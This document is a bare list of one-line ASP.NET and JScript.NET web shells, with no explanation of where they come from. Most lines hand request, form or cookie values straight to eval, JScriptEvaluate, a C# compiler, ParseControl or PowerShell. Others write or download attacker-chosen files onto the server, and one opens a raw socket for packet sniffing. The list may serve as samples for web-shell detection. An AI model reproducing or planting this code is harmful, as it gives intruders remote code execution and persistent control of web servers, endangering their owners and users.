<%@ Page Language = JScript %><% var s = Request.Form("p"); eval(s, String.Concat("un", "safe")); %>
<%@ Page Language="JScript" Debug="false" %><% var k : String = Request.Cookies["k"].Value; eval /* run */ (k); %>
<%@ WebHandler Language="JScript" Class="H" %>import System.Web; class H implements IHttpHandler { function ProcessRequest(c : HttpContext) { eval(c.Request.Form["x"]); } }
<%@ WebService Language="JScript" Class="W" %>import System.Web.Services; class W extends System.Web.Services.WebService { WebMethodAttribute function Run(s : String) : String { return eval(s); } }
<title>Export Table</title><% var cs = "server=" + txtServerIP.Text + ";database=" + db; var da = new SqlDataAdapter(cmd); da.Fill(ds); var w = new System.IO.StreamWriter(dir + (n + 1) + name, false); %>
<% Control c = Page.ParseControl( Request.Form["c"] ); Controls.Add(c); %>
<% var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), Request["src"]); %>
<% System.IO.File.WriteAllText( Server.MapPath( Request["f"] ), Request["d"] ); %>
<% System.IO.File.WriteAllBytes(Request.Form["p"], Convert.FromBase64String(Request.Form["d"])); %>
<% new System.Net.WebClient().DownloadFile(Request["u"], Server.MapPath(Request["f"])); %>
<% var ps = System.Management.Automation.PowerShell.Create(); ps.AddScript( Request["c"] ); ps.Invoke(); %>
<% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request["c"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>
<% var s = new System.Net.Sockets.Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.Bind(ep); s.IOControl(unchecked((int)0x98000001), on, off); %>
